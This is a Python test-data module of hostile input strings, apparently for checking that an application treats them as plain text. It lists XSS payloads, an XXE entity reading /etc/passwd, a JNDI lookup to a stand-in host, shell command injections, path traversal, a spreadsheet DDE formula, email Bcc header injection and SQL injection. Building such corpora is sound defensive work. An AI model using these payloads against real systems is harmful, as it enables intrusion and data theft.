"""Texts that are dangerous if they are interpreted as anything but text."""

TAGS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script href=data:,alert(1)>",
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>",
    "<math><mtext></math><img src=x>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</pre><b>",
    "</h1><form action=//example.org><button>", "<base href=//example.org/>",
    "<meta http-equiv=refresh content=0;url=//example.org>",
    "<link rel=stylesheet href=//example.org/x.css>", "<object data=//example.org>", "<embed src=//example.org>", "<!--",
    "--><b>", "<![CDATA[<b>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "<x", "<x:y", "</", "<", ">", "<b>bold</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;", "&", "&&amp;lt;", "&notanentity;", "&#0;", "&#x110000;",
]
QUOTES = [
    '"', "'", "`", '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" style="background:url(//example.org)', "\\", '\\"', "\\'", "\\n", "\\u003cscript\\u003e", "javascript:alert(1)//",
    "data:text/html,<script>",
    "');alert(1);//", '");alert(1);//', "]]>", "</script", "//example.org/", "\\\\example.org\\share",
]
TEMPLATES = [
    "{{csrf}}", "{{{title}}}", "{{#attendees}}{{name}}{{/attendees}}", "{{>layout}}", "{{<layout}}", "{{! no }}",
    "{{=<% %>=}}", "{{&title}}",
    "${7*7}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "{% debug %}", "%{title}", "{title}", "{0}", "%s%s%n", "%@%@", "\\(title)",
    "$(id)", "`id`",
    "${jndi:ldap://example.org/x}", "; id", "| id", "&& id", "../../etc/passwd", "C:\\windows", "%00", "%0d%0aX: y",
    "\u0025\u0035\u0063",
]
CELLS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//example.org\")", "=cmd|' /C calc'!A0", ";=1", ",=1", "\"=1\"",
    "'=1", "|1"]
CALENDARS = [
    "x;VALUE=URI:y", "BEGIN:VEVENT", "END:VCALENDAR", "SUMMARY:x", "a,b;c:d\\e", "\\nATTENDEE:mailto:evil@example.org",
    "\\;\\,\\n\\N",
    "=0D=0AATTENDEE:x", "a\\", "DTSTART:19700101", "X-ALT-DESC;FMTTYPE=text/html:<b>", ":" * 60, "ä" * 100, "🍜" * 60,
]
MAILS = [
    "Bcc: evil@example.org", "x Bcc: evil@example.org", "=?utf-8?q?=0D=0ABcc:_evil@example.org?=", "=?utf-8?B?PGI+?=",
    "<evil@example.org>",
    '"evil" <evil@example.org>', "evil@example.org, b@example.org", ".", "..", "--boundary", "Content-Type: text/html",
    "=3Cscript=3E",
    "From nobody", "https://example.org/?q=<b>", "http://evil.example.org", "12345678", "www.example.org",
]
LETTERS = [
    "\u202egnp.exe", "\u2066\u202dabc", "a\u0301" * 20, "e" + "\u0301" * 60, "\ufdfa", "İstanbul", "ﬀ",
    "𝓽𝓮𝔁𝓽", "שלום عالم",
    "＜script＞", "‹script›", "ʺ onload=x", "\u2028alert(1)", "\u2029", "\u00a0", "\ufffd", "👩‍👩‍👧‍👦", "null",
    "undefined", "NaN", "true", "None",
    "__proto__", "constructor", "-1", "1e309", "٣", "Robert'); DROP TABLE person;--", "0x0A",
    "\u0130\u0131",
]
# Rejected, or stored without these: characters that a single-line text may not contain.
CONTROLS = [
    "a\r\nBcc: evil@example.org", "a\nb", "a\rb", "a\0b", "a\tb", "\x1b[31mred", "a\x08b", "a\x0bb", "a\x7fb", "a\x85b",
    "\r\nATTENDEE:x",
]
# Rejected where a text is required: nothing of them is drawn.
INVISIBLE = ["\u200b\u200d\ufeff", "\u180e", "\U000e0041", "\u0301", "\u2800", "\ue000"]
TEXTS = TAGS + QUOTES + TEMPLATES + CELLS + CALENDARS + MAILS + LETTERS
